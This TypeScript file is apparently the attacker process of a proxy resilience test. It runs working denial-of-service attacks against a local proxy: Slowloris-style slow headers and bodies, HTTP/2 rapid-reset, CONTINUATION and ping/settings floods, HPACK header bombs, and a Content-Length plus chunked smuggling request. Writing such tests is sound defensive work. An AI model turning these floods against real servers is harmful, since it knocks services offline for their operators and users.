// The attacker of beside.test.ts, a process of its own: attacks at full speed against its own route, a kind at a time.
// Arguments: the proxy's port, ms per attack.  Tells {port, kinds} first; told a kind, it answers {connections: N} when that attack is over.
import { createServer as createHttpServer } from 'node:http'
import { type AddressInfo, connect, type Socket } from 'node:net'
import { FLAG, frame, headerBlock, TYPE, uint32 } from '../h2-frames.js'

const [port, attackMs] = process.argv.slice(2).map(Number) as [number, number]
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(TYPE.SETTINGS, 0, 0)])
const END = FLAG.END_HEADERS | FLAG.END_STREAM
const PRIORITY = 2
const CANCEL = 8

const fields = (method: string): [string, string][] => [
  [':method', method],
  [':scheme', 'http'],
  [':path', '/a/endless'],
  [':authority', 'h'],
]
const GET = headerBlock(fields('GET'))
const POST = headerBlock(fields('POST'))

/** What one connection of an attack does: `first` is sent once, `next` again and again, as fast as the proxy takes it or every so often. */
interface Attack {
  kind: string
  connections: number
  first?: Buffer
  /** Called with a counter of its own connection. */
  next?(turn: number): Buffer
  everyMs?: number
  reads?: 'nothing'
}

/** The same frames in one packet, each on a stream of its own. */
const streams = (turn: number, make: (id: number) => Buffer[]): Buffer => {
  const parts: Buffer[] = []
  for (let at = 0; at < 100; at++) parts.push(...make((turn * 100 + at) * 2 + 1))
  return Buffer.concat(parts)
}

const again = (one: Buffer): Buffer => Buffer.concat(Array.from({ length: 500 }, () => one))
const entry = Buffer.concat([Buffer.from([0x40]), headerBlock([['x-bomb', 'b'.repeat(4058)]]).subarray(1)])

const ATTACKS: Attack[] = [
  {
    kind: 'slow heads',
    connections: 200,
    first: Buffer.from('GET /a/x HTTP/1.1\r\nHost: h\r\nX-Slow: '),
    next: () => Buffer.from('a'),
    everyMs: 50,
  },
  {
    kind: 'slow bodies',
    connections: 100,
    first: Buffer.from('POST /a/x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n'),
    next: () => Buffer.from('1\r\na\r\n'),
    everyMs: 50,
  },
  { kind: 'never reading', connections: 20, first: Buffer.from('GET /a/endless HTTP/1.1\r\nHost: h\r\n\r\n'), reads: 'nothing' },
  {
    kind: 'never reading streams',
    connections: 10,
    first: Buffer.concat([PREFACE, streams(0, id => [frame(TYPE.HEADERS, END, id, GET)])]),
    reads: 'nothing',
  },
  {
    kind: 'resets',
    connections: 2,
    first: PREFACE,
    next: turn => streams(turn, id => [frame(TYPE.HEADERS, END, id, GET), frame(TYPE.RST, 0, id, uint32(CANCEL))]),
  },
  {
    kind: 'provoked resets',
    connections: 2,
    first: PREFACE,
    next: turn => streams(turn, id => [frame(TYPE.HEADERS, FLAG.END_HEADERS, id, POST), frame(TYPE.WINDOW_UPDATE, 0, id, uint32(0))]),
  },
  { kind: 'pings', connections: 2, first: PREFACE, next: () => again(frame(TYPE.PING, 0, 0, Buffer.alloc(8))) },
  { kind: 'settings', connections: 2, first: PREFACE, next: () => again(frame(TYPE.SETTINGS, 0, 0)), reads: 'nothing' },
  { kind: 'priorities', connections: 2, first: PREFACE, next: () => again(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 9]))) },
  {
    kind: 'continuations',
    connections: 2,
    first: Buffer.concat([PREFACE, frame(TYPE.HEADERS, FLAG.END_STREAM, 1, GET)]),
    next: () => again(frame(TYPE.CONTINUATION, 0, 1, headerBlock([['x-fill', 'a']]))),
  },
  {
    kind: 'bombs',
    connections: 2,
    first: Buffer.concat([PREFACE, frame(TYPE.HEADERS, END, 1, Buffer.concat([GET, entry]))]),
    next: turn => frame(TYPE.HEADERS, END, turn * 2 + 3, Buffer.concat([GET, Buffer.alloc(10_000, 0x80 | 62)])),
  },
  {
    kind: 'nonsense',
    connections: 4,
    first: Buffer.from('POST /a/x HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
  },
]

async function run(attack: Attack): Promise<number> {
  let isOver = false
  let connections = 0
  const sockets = new Set<Socket>()
  const attackOnce = () => {
    if (isOver) return
    connections++
    const socket = connect({ port, host: '127.0.0.1', noDelay: true })
    sockets.add(socket)
    let turn = 0
    const send = () => {
      if (isOver || !socket.writable || attack.next === undefined) return
      const more = socket.write(attack.next(turn++))
      if (attack.everyMs !== undefined) setTimeout(send, attack.everyMs)
      else if (more) setImmediate(send)
      else socket.once('drain', send)
    }
    socket.on('error', () => {})
    socket.on('connect', () => {
      if (attack.first !== undefined) socket.write(attack.first)
      send()
    })
    if (attack.reads === undefined) socket.resume()
    else socket.pause()
    socket.on('close', () => {
      sockets.delete(socket)
      setImmediate(attackOnce)
    })
  }
  for (let at = 0; at < attack.connections; at++) attackOnce()
  await new Promise(resolve => setTimeout(resolve, attackMs))
  isOver = true
  for (const socket of sockets) socket.destroy()
  return connections
}

const service = createHttpServer((request, response) => {
  if (request.url === '/endless') {
    const block = Buffer.alloc(64 * 1024)
    const push = () => {
      while (!response.destroyed && response.write(block));
    }
    response.on('drain', push)
    push()
    return
  }
  request.resume()
  request.on('end', () => response.end('attacked'))
})
service.listen(0, '127.0.0.1', () => {
  process.send!({ port: (service.address() as AddressInfo).port, kinds: ATTACKS.map(attack => attack.kind) })
})
process.on('message', async (kind: string) => {
  process.send!({ connections: await run(ATTACKS.find(each => each.kind === kind)!) })
})
process.on('disconnect', () => process.exit(0))
